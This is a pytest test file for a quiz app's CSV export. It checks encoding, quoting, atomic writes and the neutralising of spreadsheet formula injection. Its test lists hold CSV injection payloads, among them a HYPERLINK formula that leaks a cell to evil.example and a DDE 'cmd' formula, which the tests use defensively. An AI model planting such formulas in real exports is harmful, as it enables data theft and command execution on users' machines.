"""CSV that opens right in a spreadsheet: BOM, RFC 4180, typed numbers, no formulas, atomic."""

from __future__ import annotations

import csv
import io
import os
import signal
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from quiz.store.csv_export import (
    FORMULA_TRIGGERS,
    PLAIN_FIRST_CODE_POINTS,
    SQL_CELL_FUNCTION,
    _visible_start,  # what a spreadsheet sees first, once it trimmed spaces
    _write_rows,  # the writer behind write_csv, on a string buffer
    check_delimiter,
    csv_text,
    neutralise,
    sql_cell,
    write_csv,
)
from quiz.store.db import sql_text_cell

ROOT = Path(__file__).parent.parent.parent
HEADER = ("joueur", "classe", "score", "écart", "note")
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"clic")',
    "+33 6 12 34 56 78 +1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=cmd|' /C calc'!A0",
]


def read_back(path: Path, delimiter: str = ",") -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return list(csv.reader(stream, delimiter=delimiter))


def test_bom_accents_and_line_endings(tmp_path: Path) -> None:
    target = tmp_path / "classement.csv"
    rows = [
        ("Léa Éloïse", "5e B", 4000, -2.5, "ligne 1\r\nligne 2\rligne 3\nfin"),
        ("Zoë « Ninon »", "5e B", 0, 0.1, 'dit "non", puis "oui"'),
    ]
    assert write_csv(HEADER, rows, target) == 2
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert b"\r\r\n" not in raw
    assert raw.count(b"\r\n") == 3  # one per record, none inside cells
    assert raw.decode("utf-8-sig").splitlines()[0] == "joueur,classe,score,écart,note"
    assert read_back(target) == [
        list(HEADER),
        ["Léa Éloïse", "5e B", "4000", "-2.5", "ligne 1\nligne 2\nligne 3\nfin"],
        ["Zoë « Ninon »", "5e B", "0", "0.1", 'dit "non", puis "oui"'],
    ]


def test_numbers_are_written_as_numbers(tmp_path: Path) -> None:
    target = tmp_path / "n.csv"
    write_csv(("a", "b", "c", "d", "e", "f"), [(-3, -2.5, 12.75, True, None, float("nan"))], target)
    # Unquoted, as a spreadsheet needs them to be numbers; NaN is no number a spreadsheet knows.
    assert target.read_bytes().split(b"\r\n")[1] == b"-3,-2.5,12.75,1,,"


def test_semicolon_for_french_excel_uses_decimal_commas(tmp_path: Path) -> None:
    target = tmp_path / "fr.csv"
    write_csv(("nom", "moyenne", "écart"), [("Léa; Hugo", 12.5, -0.25)], target, delimiter=";")
    assert target.read_bytes().decode("utf-8-sig").split("\r\n")[1] == '"Léa; Hugo";12,5;-0,25'
    with pytest.raises(ValueError, match="delimiter"):
        write_csv(("a",), [], target, delimiter=",", decimal_comma=True)


def test_delimiters_are_checked() -> None:
    assert check_delimiter("tab") == "\t"
    assert check_delimiter(";") == ";"
    with pytest.raises(ValueError, match="must be one of"):
        check_delimiter('"')


@pytest.mark.parametrize("payload", PAYLOADS)
def test_known_injection_payloads_are_neutralised(tmp_path: Path, payload: str) -> None:
    target = tmp_path / "x.csv"
    write_csv(("name",), [(payload,)], target)
    cell = read_back(target)[1][0]
    assert cell.startswith("'")
    assert not cell.startswith(FORMULA_TRIGGERS)


def test_text_that_is_just_a_number_is_left_alone() -> None:
    assert neutralise("-5") == "-5"
    assert neutralise("+3,5") == "+3,5"
    assert neutralise("-5-5") == "'-5-5"


@given(st.text(max_size=40), st.sampled_from([",", ";", "\t"]))
def test_no_text_cell_can_become_a_formula(text: str, delimiter: str) -> None:
    buffer = io.StringIO(newline="")
    _write_rows(buffer, ("cell",), [(text, -1.5)], delimiter, delimiter == ";")
    written = buffer.getvalue()
    assert "\r\r\n" not in written
    ((cell, number),) = list(csv.reader(io.StringIO(written, newline=""), delimiter=delimiter))[1:]
    expected = text.replace("\r\n", "\n").replace("\r", "\n")
    if _visible_start(cell).startswith(FORMULA_TRIGGERS):
        # Only text that is nothing but a number may keep a leading sign.
        assert cell == expected
        float(_visible_start(cell).replace(",", "."))
    else:
        assert cell in (expected, "'" + expected)
        assert cell == expected or _visible_start(expected).startswith(FORMULA_TRIGGERS)
    assert number == ("-1,5" if delimiter == ";" else "-1.5")


def test_a_failed_export_leaves_the_old_file(tmp_path: Path) -> None:
    target = tmp_path / "classement.csv"
    target.write_bytes(b"ancien\r\n")
    os.chmod(target, 0o640)

    def rows_then_failure() -> object:
        yield ("Léa", 1)
        raise RuntimeError("the database went away")

    with pytest.raises(RuntimeError):
        write_csv(("nom", "n"), rows_then_failure(), target)  # type: ignore[arg-type]
    assert target.read_bytes() == b"ancien\r\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["classement.csv"]
    write_csv(("nom",), [("Léa",)], target)
    assert target.stat().st_mode & 0o777 == 0o640  # the teacher's permissions are kept


EXPORTER = """
import sys, time
from quiz.store.csv_export import write_csv

def rows():
    for i in range(10**9):
        if i == 2000:
            print("halfway", flush=True)
            time.sleep(60)
        yield (f"élève {i}", i, i / 7)

write_csv(("nom", "n", "x"), rows(), sys.argv[1])
"""


@pytest.mark.skipif(not hasattr(signal, "SIGKILL"), reason="needs POSIX signals")
def test_a_killed_export_leaves_the_old_file_whole(tmp_path: Path) -> None:
    target = tmp_path / "classement.csv"
    write_csv(("nom", "score"), [("Léa", 4000), ("Hugo", 3000)], target)
    before = target.read_bytes()
    exporter = subprocess.Popen(
        [sys.executable, "-c", EXPORTER, str(target)],
        stdout=subprocess.PIPE,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        text=True,
    )
    assert exporter.stdout is not None
    assert exporter.stdout.readline().strip() == "halfway"
    time.sleep(0.05)
    exporter.send_signal(signal.SIGKILL)
    exporter.wait()
    assert target.read_bytes() == before
    leftovers = [p for p in tmp_path.iterdir() if p != target]
    assert len(leftovers) == 1  # the half-written temporary file, never the real one
    assert leftovers[0].name.startswith(".classement.csv.")


def sql_connection() -> sqlite3.Connection:
    """A connection with `neutralise` registered as the results store registers it."""
    connection = sqlite3.connect(":memory:")
    connection.create_function(SQL_CELL_FUNCTION, 1, sql_cell, deterministic=True)
    return connection


tricky_text = st.one_of(
    st.text(max_size=20),
    st.from_regex(r"[-+=@\t\r\n ]?[0-9٣.,a]{0,5}(\r\n|\r|\n)?", fullmatch=True),
    st.from_regex(r"[ \t\u3000\u00a0\u200b\ufeff]{0,3}[-+=@＝＋－＠]?[0-9a]{0,3}", fullmatch=True),
)


@settings(max_examples=400)
@given(tricky_text)
@example("-5.")
@example("+.5")
@example("-5..5")
@example("-5,5.5")
@example("-")
@example("-٣")
@example("\r-5")
@example("- 5")
def test_the_sql_twin_of_neutralise_agrees_with_it(text: str) -> None:
    # The answers export neutralises in SQL (no Python loop over 100,000 rows): same rules.
    connection = sql_connection()
    (cell,) = connection.execute(f"SELECT {sql_text_cell(':v')}", {"v": text}).fetchone()
    connection.close()
    assert cell == neutralise(text)


def test_the_sql_twin_of_neutralise_is_not_trivially_equal() -> None:
    connection = sql_connection()
    cells = [
        connection.execute(f"SELECT {sql_text_cell(':v')}", {"v": v}).fetchone()[0]
        for v in ("=1+1", "-5", "-5,5", "-5-5", "a\r\nb", "\r=")
    ]
    connection.close()
    assert cells == ["'=1+1", "-5", "-5,5", "'-5-5", "a\nb", "'\n="]


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_csv_text_is_the_file_write_csv_writes(tmp_path: Path, delimiter: str) -> None:
    rows = [('=HYPERLINK("x")', "4B", 12, 3.5, "a\r\nb"), ("Zoé", "", -5, None, "-5")]
    target = tmp_path / "export.csv"
    write_csv(HEADER, rows, target, delimiter=delimiter)
    text = csv_text(HEADER, rows, delimiter=delimiter)
    assert text.encode("utf-8") == target.read_bytes()
    assert text.startswith("\ufeffjoueur")
    assert "'=HYPERLINK" in text
    with pytest.raises(ValueError, match="delimiter"):
        csv_text(HEADER, rows, delimiter=":")


# Spreadsheets trim leading spaces (LibreOffice's "trim spaces", Excel's TRIM when pasting) and
# some fold full-width signs to ASCII: what matters is the first character a reader sees.
HIDDEN_FORMULAS = [
    " =1+1",
    "\t=1+1",
    "  \t @SUM(A1:A9)",
    "\u00a0+1+1",  # no-break space
    "\u3000-1+1",  # ideographic space
    "\u2003=1",  # em space
    "\u200b=1",  # zero-width space: nothing to see
    "\ufeff=1",  # byte-order mark
    "\n\n=1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1:A9)",
    ' ＝HYPERLINK("http://evil.example")',
]


@pytest.mark.parametrize("payload", HIDDEN_FORMULAS)
def test_a_formula_behind_spaces_or_in_full_width_is_neutralised(payload: str) -> None:
    assert neutralise(payload) == "'" + payload
    text = csv_text(("name",), [(payload, 1)])
    ((cell, _),) = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))[1:]
    assert cell == "'" + payload
    (from_sql,) = sql_connection().execute(f"SELECT {sql_text_cell(':v')}", {"v": payload})
    assert from_sql == ("'" + payload,)


def test_a_number_behind_spaces_stays_a_number_and_plain_text_is_kept() -> None:
    assert neutralise(" -5") == " -5"
    assert neutralise("\t+3,5") == "\t+3,5"
    assert neutralise(" - 5") == "' - 5"
    assert neutralise("\tLéa") == "\tLéa"
    assert neutralise("   ") == "   "
    assert neutralise("a =1") == "a =1"


def test_every_plain_first_character_really_needs_no_neutralising() -> None:
    # The shortcut both the Python writer and the SQL query take must never skip a risky cell.
    for low, high in PLAIN_FIRST_CODE_POINTS:
        for code in range(low, high + 1):
            text = chr(code) + " =1"
            assert neutralise(text) == text, hex(code)
            assert _visible_start(text) == text, hex(code)
